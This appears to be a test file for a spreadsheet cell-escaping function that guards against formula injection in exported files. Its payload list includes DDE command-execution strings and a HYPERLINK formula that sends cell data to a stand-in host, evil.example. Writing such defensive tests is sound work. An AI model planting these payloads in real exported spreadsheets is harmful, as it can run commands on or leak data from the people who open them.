import { needsSpreadsheetEscape, originalCellValue, spreadsheetSafeCell } from './spreadsheet-cell';

describe('spreadsheetSafeCell', () => {
  const PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=SUM(1+1)*cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1,1)',
    '\t=1+1',
    '\r=1+1',
    '-',
    '=',
    "-'5",
    '-5e3',
    '-1,000',
  ];

  it.each(PAYLOADS)('neutralises %j with one leading single quote', (payload) => {
    expect(needsSpreadsheetEscape(payload)).toBe(true);
    expect(spreadsheetSafeCell(payload)).toBe(`'${payload}`);
    expect(originalCellValue(spreadsheetSafeCell(payload))).toBe(payload);
  });

  it.each(['-5', '-12.50', '0', '25.50', '-0.01'])('keeps the plain decimal number %j a number', (n) => {
    expect(spreadsheetSafeCell(n)).toBe(n);
  });

  it.each(['ORD-1', 'محمد', '', 'a=b', ' =1', "'quoted", '5-3'])('leaves %j as it is', (cell) => {
    expect(spreadsheetSafeCell(cell)).toBe(cell);
    expect(originalCellValue(cell)).toBe(cell);
  });

  it('keeps a value that already starts with quotes before a formula recoverable', () => {
    for (const cell of ["'=1+1", "''-x", "'@a"]) {
      expect(spreadsheetSafeCell(cell)).toBe(`'${cell}`);
      expect(originalCellValue(spreadsheetSafeCell(cell))).toBe(cell);
    }
  });
});
